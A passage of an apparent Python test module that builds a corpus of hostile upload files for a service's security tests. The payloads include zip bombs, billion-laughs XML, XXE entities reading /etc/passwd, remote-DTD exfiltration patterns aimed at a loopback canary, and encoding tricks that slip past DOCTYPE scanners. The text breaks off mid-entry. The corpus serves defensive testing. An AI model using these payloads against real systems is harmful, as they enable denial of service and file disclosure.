"""A corpus of hostile and broken files for every upload path (docs/security.md #4).

Each file is built in memory, the same bytes on every run, with a short id, the name it is
uploaded under, a line saying what it attacks, and the upload paths it goes through. Nothing is
built until it is asked for, and big payloads are made by repeating bytes or by writing a zip's
headers by hand around one small compressed "kernel", so building the whole corpus takes a
second or two.

Categories (the `category` of each file): zip bombs (ratio, entry count, nesting, overlapping
entries, lying sizes), XML attacks (billion laughs, external entities to file:// and http://,
parameter entities, XInclude, encodings that hide a DOCTYPE), truncated and encrypted OOXML,
macros, wrong magic bytes and wrong extensions, polyglots, path-traversal names (of the upload
and of the entries inside a zip), empty files, oversized files, huge cells, non-UTF-8 text,
formula injection, deeply nested JSON and hostile PDFs.

Files that point outside (external entities, XInclude, a PDF's links) point at `canary`, a
URL on the loopback interface that the test listens on: any connection to it is an outbound
connection the service should never have made.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

MB = 1024 * 1024
CANARY = "http://127.0.0.1:9/g2g-canary"

# The upload paths (tests/security/test_hostile_uploads.py posts to each).
PLAN, INSPECTION, VALUES, ANNEXA, EVIDENCE = "plan", "inspection", "values", "annexa", "evidence"
PATHS = (PLAN, INSPECTION, VALUES, ANNEXA, EVIDENCE)

# Size limits of the paths, as their forms and readers state them.
PLAN_LIMIT = 20 * MB
VALUES_LIMIT = 10 * MB
ANNEXA_LIMIT = 20 * MB
EVIDENCE_LIMIT = 10 * MB


@dataclass(eq=False)
class Hostile:
    """One file of the corpus. `accepted_by` names the paths for which the file is a fair
    file after all (a CSV in Windows-1252, formula text): they may take it, never fail on it."""

    id: str
    category: str
    name: str
    description: str
    build: Callable[[], bytes] = field(repr=False, compare=False)
    paths: tuple[str, ...]
    accepted_by: frozenset[str] = frozenset()

    @property
    def data(self) -> bytes:
        """The file's bytes: built on first use, and only the last few are kept."""
        return _data(self)


@functools.lru_cache(maxsize=2)
def _data(item: Hostile) -> bytes:
    return item.build()


def default_paths(name: str) -> tuple[str, ...]:
    """Every file goes through the plan import and Annex A; the others by kind."""
    extension = name.rsplit(".", 1)[-1].lower() if "." in name else ""
    extra = {
        "docx": (EVIDENCE,),
        "xlsx": (VALUES, EVIDENCE),
        "csv": (VALUES, EVIDENCE),
        "txt": (INSPECTION, EVIDENCE),
        "pdf": (INSPECTION, EVIDENCE),
        "png": (EVIDENCE,),
        "jpg": (EVIDENCE,),
        "json": (),
    }.get(extension, (EVIDENCE, INSPECTION))
    return (PLAN, ANNEXA, *extra)


# ---------------------------------------------------------------------------------------------
# Zips: written by `zipfile`, or by hand when the headers themselves are the attack

_WHEN = (2020, 1, 1, 0, 0, 0)
_DOS_TIME, _DOS_DATE = 0, (2020 - 1980) << 9 | 1 << 5 | 1


def zip_of(entries: dict[str, bytes] | list[tuple[str, bytes]], *, level: int = 6) -> bytes:
    """A zip of the entries, deflated, with fixed dates so the bytes never change."""
    out = io.BytesIO()
    items = entries.items() if isinstance(entries, dict) else entries
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in items:
            archive.writestr(zipfile.ZipInfo(name, _WHEN), data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def deflated(data: bytes, level: int = 9) -> bytes:
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


@functools.cache
def _zero_block() -> bytes:
    """One MB of zeros as a raw deflate block that ends on a byte boundary and refers only to
    zeros, so copies of it in a row inflate to that many MB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(MB)) + packer.flush(zlib.Z_SYNC_FLUSH)


@functools.cache
def zeros_deflated(megabytes: int) -> tuple[bytes, int]:
    """`megabytes` MB of zeros, raw-deflated in about 1 KB a MB, and their CRC-32, without
    ever holding the zeros."""
    crc, chunk = 0, bytes(MB)
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return _zero_block() * megabytes + b"\x03\x00", crc


def zeros_zlib(megabytes: int) -> bytes:
    """The same zeros as a zlib stream (a PDF's /FlateDecode), with their Adler-32."""
    adler, chunk = 1, bytes(MB)
    for _ in range(megabytes):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + _zero_block() * megabytes + b"\x03\x00" + struct.pack(">L", adler)


@dataclass
class RawEntry:
    """A zip entry as its headers say it is: `packed` is written as is."""

    name: bytes
    packed: bytes
    size: int
    crc: int
    method: int = 8
    flags: int = 0
    at: int | None = None  # central directory points here instead of its own local header


def raw_zip(entries: list[RawEntry], *, count: int | None = None) -> bytes:
    """A zip written header by header, so sizes, flags, names and offsets can lie."""
    out, central = bytearray(), bytearray()
    for entry in entries:
        offset = len(out)
        if entry.at is None:
            out += struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                entry.flags,
                entry.method,
                _DOS_TIME,
                _DOS_DATE,
                entry.crc,
                len(entry.packed),
                entry.size,
                len(entry.name),
                0,
            )
            out += entry.name + entry.packed
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            entry.flags,
            entry.method,
            _DOS_TIME,
            _DOS_DATE,
            entry.crc,
            len(entry.packed),
            entry.size,
            len(entry.name),
            0,
            0,
            0,
            0,
            0,
            offset if entry.at is None else entry.at,
        )
        central += entry.name
    total = len(entries) if count is None else count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(central), len(out), 0)
    return bytes(out + central + end)


def stored(name: str, data: bytes) -> RawEntry:
    return RawEntry(name.encode(), data, len(data), zlib.crc32(data), method=0)


def packed(name: str, data: bytes) -> RawEntry:
    return RawEntry(name.encode(), deflated(data), len(data), zlib.crc32(data))


# ---------------------------------------------------------------------------------------------
# Minimal Word and Excel packages, written part by part

NS_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NS_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
NS_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
MACROSHEET_TYPE = "application/vnd.ms-excel.macrosheet+xml"
VBA_DEFAULT = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
ACTIVEX_DEFAULT = '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>'
ACTIVEX_NS = "http://schemas.microsoft.com/office/2006/activeX"
XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
PLAN_HEADER = ["Ref", "Actions", "Lead", "Timescale"]
ANNEXA_HEADER = [
    "Child Unique ID",
    "Gender",
    "Ethnicity",
    "Date of Birth",
    "Age of Child (Years)",
    "Date of Contact",
    "Contact Source",
]


def _rel(target: str, kind: str, rid: str = "rId1") -> str:
    return f'<Relationship Id="{rid}" Type="{NS_R}/{kind}" Target="{target}"/>'


def content_types(*overrides: tuple[str, str], extra: str = "") -> bytes:
    rows = "".join(
        f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides
    )
    return (
        f'{XML_HEAD}<Types xmlns="{NS_CT}">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{extra}{rows}</Types>'
    ).encode()


def relationships(*rels: str) -> bytes:
    return f'{XML_HEAD}<Relationships xmlns="{NS_REL}">{"".join(rels)}</Relationships>'.encode()


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def document_xml(*paragraphs: str, head: str = XML_HEAD, body: str = "") -> bytes:
    runs = "".join(f"<w:p><w:r><w:t>{_escape(text)}</w:t></w:r></w:p>" for text in paragraphs)
    return f'{head}<w:document xmlns:w="{NS_W}"><w:body>{runs}{body}</w:body></w:document>'.encode()


def docx_parts(document: bytes | None = None, **more: bytes) -> dict[str, bytes]:
    """The three parts of a Word file; `document` is word/document.xml."""
    parts = {
        "[Content_Types].xml": content_types(("/word/document.xml", DOCX_MAIN)),
        "_rels/.rels": relationships(_rel("word/document.xml", "officeDocument")),
        "word/document.xml": document or document_xml("Improvement plan", "Priority 1"),
    }
    return parts | {name.replace("__", "/"): data for name, data in more.items()}


def docx(document: bytes | None = None, **more: bytes) -> bytes:
    return zip_of(docx_parts(document, **more))


def _column(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def sheet_xml(rows: list[list[str]], *, head: str = XML_HEAD, dimension: str = "") -> bytes:
    """A worksheet with inline strings (no shared strings part needed)."""
    out = [f'{head}<worksheet xmlns="{NS_S}">']
    if dimension:
        out.append(f'<dimension ref="{dimension}"/>')
    out.append("<sheetData>")
    for r, row in enumerate(rows, 1):
        out.append(f'<row r="{r}">')
        for c, value in enumerate(row, 1):
            out.append(f'<c r="{_column(c)}{r}" t="inlineStr"><is><t>{_escape(value)}</t></is></c>')
        out.append("</row>")
    out.append("</sheetData></worksheet>")
    return "".join(out).encode()


def workbook_xml(*sheets: str, head: str = XML_HEAD) -> bytes:
    rows = "".join(
        f'<sheet name="{name}" sheetId="{n}" r:id="rId{n}"/>' for n, name in enumerate(sheets, 1)
    )
    body = f'<workbook xmlns="{NS_S}" xmlns:r="{NS_R}"><sheets>{rows}</sheets></workbook>'
    return (head + body).encode()


def strings_xml(*texts: str, head: str = XML_HEAD) -> bytes:
    items = "".join(f"<si><t>{_escape(text)}</t></si>" for text in texts)
    return f'{head}<sst xmlns="{NS_S}" count="{len(texts)}">{items}</sst>'.encode()


def xlsx_parts(
    sheet: bytes | None = None, *, sheet_name: str = "List 1", **more: bytes
) -> dict[str, bytes]:
    """A one-sheet workbook ("List 1", an Annex A list, so every reader reads it)."""
    rows = [ANNEXA_HEADER, ["C1", "M", "WBRI", "01/01/2015", "9", "01/03/2025", "1A"]]
    parts = {
        "[Content_Types].xml": content_types(
            ("/xl/workbook.xml", XLSX_MAIN),
            ("/xl/worksheets/sheet1.xml", SHEET_TYPE),
            ("/xl/sharedStrings.xml", STRINGS_TYPE),
        ),
        "_rels/.rels": relationships(_rel("xl/workbook.xml", "officeDocument")),
        "xl/workbook.xml": workbook_xml(sheet_name),
        "xl/_rels/workbook.xml.rels": relationships(
            _rel("worksheets/sheet1.xml", "worksheet"),
            _rel("sharedStrings.xml", "sharedStrings", "rId2"),
        ),
        "xl/worksheets/sheet1.xml": sheet or sheet_xml(rows),
        "xl/sharedStrings.xml": strings_xml("unused"),
    }
    return parts | {name.replace("__", "/"): data for name, data in more.items()}


def xlsx(sheet: bytes | None = None, **more: bytes) -> bytes:
    return zip_of(xlsx_parts(sheet, **more))


def with_parts(base: dict[str, bytes], **changes: bytes) -> bytes:
    """A package with some parts replaced (`xl__workbook.xml` names xl/workbook.xml)."""
    return zip_of(base | {name.replace("__", "/"): data for name, data in changes.items()})


# ---------------------------------------------------------------------------------------------
# XML attacks


def billion_laughs(root: str = "lolz", levels: int = 9) -> str:
    """Nine entities, each ten of the one before: a billion "lol"s from under 1 KB."""
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels + 1)]
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n{"".join(entities)}\n]>\n'


def external(root: str, target: str) -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{target}">]>\n'


def parameter_entity(root: str, target: str) -> str:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "{target}">%remote;]>\n'
    )


def laughs_document() -> bytes:
    return (
        billion_laughs("w:document") + f'<w:document xmlns:w="{NS_W}"><w:body><w:p><w:r>'
        "<w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def xxe_document(target: str) -> bytes:
    return (
        external("w:document", target) + f'<w:document xmlns:w="{NS_W}"><w:body><w:p><w:r>'
        "<w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def xxe_strings(target: str) -> bytes:
    return (
        external("sst", target) + f'<sst xmlns="{NS_S}" count="1"><si><t>&xxe;</t></si></sst>'
    ).encode()


def laughs_strings() -> bytes:
    return (
        billion_laughs("sst") + f'<sst xmlns="{NS_S}" count="1"><si><t>&lol9;</t></si></sst>'
    ).encode()


def quadratic_sheet() -> bytes:
    """Quadratic blowup: one 100 KB entity used 10,000 times, no nesting for a parser to count."""
    entity = "A" * 100_000
    cells = "&big;" * 10_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY big "{entity}">]>'
        f'<worksheet xmlns="{NS_S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{cells}'
        "</t></is></c></row></sheetData></worksheet>"
    ).encode()


# ---------------------------------------------------------------------------------------------
# OLE (old Office and password-protected OOXML), PDF, images

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole(*streams: str) -> bytes:
    """An OLE compound file header with directory entries naming `streams` (enough to tell
    what it is; no Office reader is ever given one)."""
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + bytes(64) for name in streams)
    return OLE + bytes(504) + directory + bytes(512)


def pdf(*objects: bytes, trailer: bytes = b"", xref: bool = True) -> bytes:
    """A PDF of numbered objects, with a correct cross-reference table unless told not to."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer + b">>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def stream(content: bytes, extra: bytes = b"", *, compress: bool = False) -> bytes:
    if compress:
        content, extra = zlib.compress(content, 9), extra + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page(contents: bytes = b"4 0 R", extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents "
        + contents
        + b" /Resources << /Font << /F1 5 0 R >> >> "
        + extra
        + b">>"
    )


def text_ops(*lines: str) -> bytes:
    shown = b"".join(b"(" + line.encode("latin-1") + b") Tj T* " for line in lines)
    return b"BT /F1 12 Tf 14 TL 72 720 Td " + shown + b"ET"


def simple_pdf(*lines: str, catalog: bytes = CATALOG, page_extra: bytes = b"") -> bytes:
    return pdf(catalog, PAGES, page(extra=page_extra), stream(text_ops(*lines)), FONT)


def png(width: int = 1, height: int = 1, idat: bytes | None = None) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))
        )

    header = struct.pack(">2L5B", width, height, 8, 0, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(b"\0" + bytes(width) * 1)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


# ---------------------------------------------------------------------------------------------
# Text


def csv_plan(*rows: list[str]) -> bytes:
    lines = ["Test Council Improvement Plan", "", "1: PRIORITY ONE", "", ",".join(PLAN_HEADER)]
    lines += [",".join(f'"{cell}"' for cell in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode()


def text_plan(action: str = "Do it") -> str:
    return (
        "Test Council Improvement Plan\n\n1: PRIORITY ONE\n\n"
        f"Ref\tActions\tLead\tTimescale\n1.1\t{action}\tDCS\tMarch 2025\n"
    )


VALUES_CSV = "measure,period,value\nRE1,2025-01,31.4\n"


def json_plan(**changes) -> str:
    import json

    plan = {
        "format": "getting-to-good/plan@1",
        "title": "Hostile plan",
        "period": "",
        "priorities": [
            {
                "number": 1,
                "title": "Priority",
                "objectives": [{"title": "Objective", "actions": [{"ref": "1.1", "title": "Do"}]}],
            }
        ],
    }
    return json.dumps(plan | changes)


# ---------------------------------------------------------------------------------------------
# The corpus


def build_corpus(canary: str = CANARY) -> list[Hostile]:
    """Every file of the corpus. `canary`: the loopback URL that outside references point at."""
    items: list[Hostile] = []
    home = canary.rstrip("/")

    def add(
        id: str,  # noqa: A002 - the corpus's own word
        category: str,
        name: str,
        description: str,
        build: Callable[[], bytes],
        *,
        paths: tuple[str, ...] | None = None,
        accepted_by: tuple[str, ...] = (),
    ) -> None:
        items.append(
            Hostile(
                id,
                category,
                name,
                description,
                build,
                paths or default_paths(name),
                frozenset(accepted_by),
            )
        )

    _zip_bombs(add)
    _xml_attacks(add, home)
    _broken_office(add)
    _macros(add)
    _wrong_kinds(add)
    _polyglots(add)
    _names(add)
    _empty_and_oversized(add)
    _huge_cells(add)
    _encodings(add)
    _injection_and_json(add, home)
    _pdfs(add, home)
    _images(add)
    ids = [item.id for item in items]
    assert len(ids) == len(set(ids)), "corpus ids must be unique"
    return items


def _docx_entries() -> list[RawEntry]:
    return [packed(name, data) for name, data in docx_parts().items()]


def _xlsx_entries() -> list[RawEntry]:
    return [packed(name, data) for name, data in xlsx_parts().items()]


def _with_zeros(base: list[RawEntry], name: str, megabytes: int) -> bytes:
    kernel, crc = zeros_deflated(megabytes)
    return raw_zip([*base, RawEntry(name.encode(), kernel, megabytes * MB, crc)])


def _zip_bombs(add) -> None:
    cat = "zip bomb"
    add(
        "bomb-ratio-docx",
        cat,
        "plan.docx",
        "512 MB of zeros packed into 0.5 MB, as a Word file's image",
        lambda: _with_zeros(_docx_entries(), "word/media/image1.png", 512),
    )
    add(
        "bomb-ratio-xlsx-strings",
        cat,
        "plan.xlsx",
        "512 MB of shared strings, 1,000 to 1",
        lambda: _with_zeros(
            [e for e in _xlsx_entries() if e.name != b"xl/sharedStrings.xml"],
            "xl/sharedStrings.xml",
            512,
        ),
    )
    add(
        "bomb-ratio-under-part-limit",
        cat,
        "values.xlsx",
        "a 9 MB worksheet packed over 1,000 "
        "to 1: under the XML part limit, so only the ratio catches it",
        _sheet_ratio_bomb,
    )
    add(
        "bomb-ratio-plain-zip",
        cat,
        "plan.docx",
        "a plain zip of 100 MB of zeros, no Office parts at all",
        lambda: _with_zeros([], "data.bin", 100),
    )
    add(
        "bomb-entries",
        cat,
        "plan.docx",
        "20,000 empty files inside a Word file",
        lambda: raw_zip(
            _docx_entries() + [stored(f"word/media/{n}.bin", b"") for n in range(20_000)]
        ),
    )
    add(
        "bomb-entries-count-lies",
        cat,
        "plan.xlsx",
        "12,000 files while the zip's end record "
        "says 4, so a count taken from the end record alone is fooled",
        lambda: raw_zip(
            _xlsx_entries() + [stored(f"xl/media/{n}.bin", b"") for n in range(12_000)], count=4
        ),
    )
    add(
        "bomb-many-small",
        cat,
        "plan.xlsx",
        "150 files of 1 MB of zeros: none reaches the "
        "ratio check alone, together they unpack to 150 MB",
        _many_small,
    )
    add(
        "bomb-overlapping",
        cat,
        "plan.docx",
        "a 'better zip bomb': 300 directory entries that all point at one compressed kernel",
        _overlapping,
    )
    add(
        "bomb-nested-3",
        cat,
        "plan.docx",
        "a zip in a zip in a zip inside a Word file",
        lambda: with_parts(docx_parts(), **{"word__embeddings__outer.zip": _nested(3)}),
    )
    add(
        "bomb-nested-ratio",
        cat,
        "plan.xlsx",
        "a zip bomb inside a workbook embedded in a workbook",
        lambda: with_parts(xlsx_parts(), **{"xl__embeddings__inner.xlsx": _inner_bomb()}),
    )
    add(
        "bomb-nested-disguised",
        cat,
        "plan.docx",
        "a zip bomb inside, named like an image",
        lambda: with_parts(docx_parts(), **{"word__media__image1.png": _inner_bomb()}),
    )
    add(
        "bomb-lying-size",
        cat,
        "plan.xlsx",
        "the worksheet's headers say 200 bytes; its data inflates to 50 MB",
        _lying_size,
        accepted_by=(EVIDENCE,),
    )
    add(
        "bomb-bzip2",
        cat,
        "plan.docx",
        "an entry packed with bzip2, which Office never uses",
        lambda: raw_zip(
            _docx_entries() + [RawEntry(b"word/x.bin", b"BZh91AY&SY", 100, 0, method=12)]
        ),
    )


def _sheet_ratio_bomb() -> bytes:
    rows = b"".join(b'<row r="%d"/>' % n for n in range(1, 11)) + b"<row/>" * (9 * MB // 6)
    sheet = f'{XML_HEAD}<worksheet xmlns="{NS_S}"><sheetData>'.encode() + rows
    return zip_of(
        xlsx_parts() | {"xl/worksheets/sheet1.xml": sheet + b"</sheetData></worksheet>"}, level=9
    )


def _many_small() -> bytes:
    kernel, crc = zeros_deflated(1)
    entries = _xlsx_entries()
    entries += [RawEntry(f"xl/media/z{n}.bin".encode(), kernel, MB, crc) for n in range(150)]
    return raw_zip(entries)


def _overlapping() -> bytes:
    kernel, crc = zeros_deflated(1)
    entries = _docx_entries()
    offset = sum(30 + len(entry.name) + len(entry.packed) for entry in entries)
    entries.append(RawEntry(b"word/media/k0.bin", kernel, MB, crc))
    entries += [
        RawEntry(f"word/media/k{n}.bin".encode(), kernel, MB, crc, at=offset) for n in range(1, 300)
    ]
    return raw_zip(entries)


def _nested(depth: int) -> bytes:
    data = zip_of({"innermost.txt": b"hello"})
    for level in range(depth):
        data = zip_of({f"level{level}.zip": data})
    return data


def _inner_bomb() -> bytes:
    return _with_zeros(_xlsx_entries(), "xl/media/z.bin", 200)


def _lying_size() -> bytes:
    kernel, _ = zeros_deflated(50)
    entries = [e for e in _xlsx_entries() if e.name != b"xl/worksheets/sheet1.xml"]
    entries.append(RawEntry(b"xl/worksheets/sheet1.xml", kernel, 200, zlib.crc32(bytes(200))))
    return raw_zip(entries)


def _xml_attacks(add, home: str) -> None:
    cat = "XML attack"
    passwd = "file:///etc/passwd"
    docx_doctype = "w:document"
    add(
        "laughs-content-types",
        cat,
        "plan.docx",
        "billion laughs in [Content_Types].xml",
        lambda: with_parts(
            docx_parts(),
            **{
                "[Content_Types].xml": (
                    billion_laughs("Types") + f'<Types xmlns="{NS_CT}"><Default Extension="x" '
                    'ContentType="&lol9;"/></Types>'
                ).encode()
            },
        ),
    )
    add(
        "laughs-document",
        cat,
        "plan.docx",
        "billion laughs in word/document.xml",
        lambda: docx(laughs_document()),
    )
    add(
        "laughs-workbook",
        cat,
        "plan.xlsx",
        "billion laughs in xl/workbook.xml",
        lambda: zip_of(
            xlsx_parts()
            | {
                "xl/workbook.xml": (
                    billion_laughs("workbook") + f'<workbook xmlns="{NS_S}" '
                    f'xmlns:r="{NS_R}"><sheets><sheet name="&lol9;" sheetId="1" r:id="rId1"/>'
                    "</sheets></workbook>"
                ).encode()
            }
        ),
    )
    add(
        "laughs-shared-strings",
        cat,
        "values.xlsx",
        "billion laughs in xl/sharedStrings.xml",
        lambda: zip_of(xlsx_parts() | {"xl/sharedStrings.xml": laughs_strings()}),
    )
    add(
        "laughs-sheet",
        cat,
        "annex-a.xlsx",
        "billion laughs in a worksheet",
        lambda: zip_of(
            xlsx_parts()
            | {
                "xl/worksheets/sheet1.xml": (
                    billion_laughs("worksheet")
                    + f'<worksheet xmlns="{NS_S}"><sheetData><row r="1">'
                    '<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
                    "</worksheet>"
                ).encode()
            }
        ),
    )
    add(
        "laughs-relationships",
        cat,
        "plan.xlsx",
        "billion laughs in _rels/.rels",
        lambda: zip_of(
            xlsx_parts()
            | {
                "_rels/.rels": (
                    billion_laughs("Relationships")
                    + f'<Relationships xmlns="{NS_REL}"><Relationship '
                    f'Id="rId1" Type="{NS_R}/officeDocument" Target="xl/workbook.xml&lol9;"/>'
                    f"</Relationships>"
                ).encode()
            }
        ),
    )
    add(
        "laughs-quadratic",
        cat,
        "annex-a.xlsx",
        "quadratic blowup: one 100 KB entity used 10,000 times",
        lambda: zip_of(xlsx_parts() | {"xl/worksheets/sheet1.xml": quadratic_sheet()}),
    )
    add(
        "xxe-file-content-types",
        cat,
        "plan.docx",
        "an external entity reading /etc/passwd in [Content_Types].xml",
        lambda: zip_of(
            docx_parts()
            | {
                "[Content_Types].xml": (
                    external("Types", passwd) + f'<Types xmlns="{NS_CT}"><Default Extension="xml" '
                    'ContentType="&xxe;"/></Types>'
                ).encode()
            }
        ),
    )
    add(
        "xxe-file-document",
        cat,
        "plan.docx",
        "an external entity reading /etc/passwd in word/document.xml",
        lambda: docx(xxe_document(passwd)),
    )
    add(
        "xxe-http-document",
        cat,
        "plan.docx",
        "an external entity fetching the canary URL in word/document.xml",
        lambda: docx(xxe_document(f"{home}/document")),
    )
    add(
        "xxe-file-workbook",
        cat,
        "plan.xlsx",
        "an external entity reading /etc/passwd in xl/workbook.xml",
        lambda: zip_of(
            xlsx_parts()
            | {
                "xl/workbook.xml": (
                    external("workbook", passwd)
                    + f'<workbook xmlns="{NS_S}" xmlns:r="{NS_R}"><sheets>'
                    '<sheet name="&xxe;" sheetId="1" r:id="rId1"/></sheets></workbook>'
                ).encode()
            }
        ),
    )
    add(
        "xxe-http-shared-strings",
        cat,
        "values.xlsx",
        "an external entity fetching the canary URL in xl/sharedStrings.xml",
        lambda: zip_of(xlsx_parts() | {"xl/sharedStrings.xml": xxe_strings(f"{home}/strings")}),
    )
    add(
        "xxe-parameter-entity",
        cat,
        "plan.docx",
        "a parameter entity loading a remote DTD (the out-of-band exfiltration pattern)",
        lambda: docx(
            (
                parameter_entity(docx_doctype, f"{home}/evil.dtd")
                + f'<w:document xmlns:w="{NS_W}"><w:body/></w:document>'
            ).encode()
        ),
    )
    add(
        "xxe-external-dtd",
        cat,
        "annex-a.xlsx",
        "a DOCTYPE naming a remote DTD as its system id",
        lambda: zip_of(
            xlsx_parts()
            | {
                "xl/worksheets/sheet1.xml": (
                    f'<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "{home}/sheet.dtd">'.encode()
                    + sheet_xml([["a"]], head="")
                )
            }
        ),
    )
    add(
        "xxe-utf16-document",
        cat,
        "plan.docx",
        "an external entity in a UTF-16 document (a byte scan for '<!DOCTYPE' in UTF-8 misses it)",
        lambda: docx(
            xxe_document(passwd)
            .decode()
            .replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>', 1)
            .encode("utf-16")
        ),
    )
    add(
        "xxe-utf32-strings",
        cat,
        "annex-a.xlsx",
        "an external entity in UTF-32 shared strings",
        lambda: zip_of(
            xlsx_parts()
            | {
                "xl/sharedStrings.xml": xxe_strings(passwd)
                .decode()
                .replace('version="1.0"?>', 'version="1.0" encoding="UTF-32"?>', 1)
                .encode("utf-32")
            }
        ),
    )
    add(
        "xxe-utf7-document",
        cat,
        "plan.docx",
        "a DOCTYPE spelt in UTF-7 ('+ADw-!DOCTYPE'), "
        "which libxml2 decodes and a byte scan does not see",
        lambda: docx(_utf7(xxe_document(passwd))),
    )
    add(
        "xxe-utf7-shared-strings",
        cat,
        "annex-a.xlsx",
        "billion laughs spelt in UTF-7 in shared strings",
        lambda: zip_of(xlsx_parts() | {"xl/sharedStrings.xml": _utf7(laughs_strings())}),
    )
    add(
        "xxe-ebcdic-document",
        cat,
        "plan.docx",
        "an external entity in an EBCDIC document (libxml2 detects EBCDIC from the first bytes)",
        lambda: docx(
            xxe_document(passwd)
            .decode()
            .replace('version="1.0"?>', 'version="1.0" encoding="IBM037"?>', 1)
            .encode("cp037")
        ),
    )
    add(
        "xxe-doctype-across-chunks",
        cat,
        "plan.xlsx",
        "a DOCTYPE that starts 4 bytes before a "
        "64 KB boundary, to catch a scanner that reads in chunks",
        _doctype_across_chunks,
    )
    add(
        "xinclude-document",
        cat,
        "plan.docx",
        "XInclude of /etc/passwd and of the canary URL (no DTD needed)",
        lambda: docx(
            document_xml(
                "Plan",
                body=(
                    f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{passwd}" '
                    f'parse="text"/>'
                    f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{home}/xi"/>'
                ),
            )
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "stylesheet-instruction",
        cat,
        "plan.xlsx",
        "an xml-stylesheet instruction pointing at the canary URL",
        lambda: zip_of(
            xlsx_parts()
            | {
                "xl/workbook.xml": workbook_xml(
                    "List 1",
                    head=f'{XML_HEAD}<?xml-stylesheet type="text/xsl" href="{home}/x.xsl"?>',
                )
            }
        ),
        accepted_by=(ANNEXA, EVIDENCE),
    )
    add(
        "template-injection",
        cat,
        "plan.docx",
        "an attached template fetched from the canary "
        "URL when Word opens the file (an external relationship)",
        lambda: zip_of(
            docx_parts()
            | {
                "word/settings.xml": f'{XML_HEAD}<w:settings xmlns:w="{NS_W}" xmlns:r="{NS_R}">'
